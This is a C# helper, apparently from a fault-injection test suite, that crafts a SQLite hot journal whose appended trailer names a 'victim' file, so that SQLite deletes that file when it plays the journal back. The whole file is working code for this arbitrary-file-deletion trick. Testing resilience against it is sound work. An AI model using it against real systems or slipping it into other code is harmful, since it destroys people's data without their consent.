using System.Buffers.Binary;
using System.Text;
using Microsoft.Data.Sqlite;

namespace ScanEngineAdmin.Faults.Local;

/// <summary>A journal of an unfinished change, which SQLite plays back, and at whose end it deletes the file that the journal names.</summary>
internal static class HotJournal
{
    private const int MagicBytes = 8;

    public static byte[] Naming(string victim)
    {
        DirectoryInfo folder = Directory.CreateTempSubdirectory("sea-journal-");
        try
        {
            byte[] name = Encoding.UTF8.GetBytes(victim);
            byte[] end = new byte[(3 * sizeof(int)) + name.Length + MagicBytes];
            BinaryPrimitives.WriteUInt32BigEndian(end, (0x40000000 / 4096) + 1);
            name.CopyTo(end, sizeof(int));
            BinaryPrimitives.WriteInt32BigEndian(end.AsSpan(4 + name.Length), name.Length);
            BinaryPrimitives.WriteInt32BigEndian(end.AsSpan(8 + name.Length), name.Sum(static one => (sbyte)one));
            Convert.FromHexString("d9d505f920a163d7").CopyTo(end, 12 + name.Length);
            return [.. Real(Path.Combine(folder.FullName, "made.db")), .. end];
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static byte[] Real(string store)
    {
        using var connection = new SqliteConnection($"Data Source={store};Pooling=False");
        connection.Open();
        using SqliteCommand command = connection.CreateCommand();
        command.CommandText = """
            PRAGMA journal_mode = DELETE;
            CREATE TABLE t (x);
            INSERT INTO t VALUES (zeroblob(100000));
            PRAGMA cache_size = 1;
            BEGIN IMMEDIATE;
            UPDATE t SET x = randomblob(100000);
            """;
        command.ExecuteNonQuery();
        using FileStream journal = new(store + "-journal", FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
        byte[] bytes = new byte[journal.Length];
        journal.ReadExactly(bytes);
        return bytes;
    }
}
